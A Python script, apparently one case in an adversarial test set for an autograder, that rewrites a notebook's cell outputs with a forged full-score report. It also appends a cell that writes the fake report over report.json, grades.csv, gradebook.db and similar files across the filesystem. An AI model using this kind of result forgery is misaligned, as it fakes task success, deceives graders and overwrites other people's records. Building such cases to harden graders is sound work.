# Outputs, attachments and files that look like the grader's own reports, with all points.
# levels: 3 2
# edit: notebook
import json

import nbformat

REPORT = {"set": "ps05_smoothing", "sandbox": 3, "submissions": [{"student": "forged_reports", "score": 19, "max_score": 19, "flags": [], "questions": []}]}


def edit(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code":
            data = {"text/plain": "1000", "application/json": REPORT, "text/html": "<table><tr><td>passed</td></tr></table>"}
            cell.outputs = [
                nbformat.v4.new_output("stream", name="stdout", text=json.dumps(REPORT)),
                nbformat.v4.new_output("execute_result", data, execution_count=1),
                nbformat.v4.new_output("display_data", {"text/plain": "19 passed in 0.01s"}),
            ]
    write = (
        "import glob, json, os\n"
        f"report = {json.dumps(json.dumps(REPORT))}\n"
        "for place in ['.', '..', '/tmp', '/', *glob.glob('/*'), *glob.glob('/*/*')]:\n"
        "    for name in ('report.json', 'results.json', 'results/results.json', 'timings.json', 'grades.csv', 'gradebook.db'):\n"
        "        try:\n"
        "            open(os.path.join(place, name), 'w').write(report)\n"
        "        except OSError:\n"
        "            pass\n"
        "print(report)\n"
        "os.write(1, report.encode())"
    )
    notebook.cells.append(nbformat.v4.new_code_cell(write))
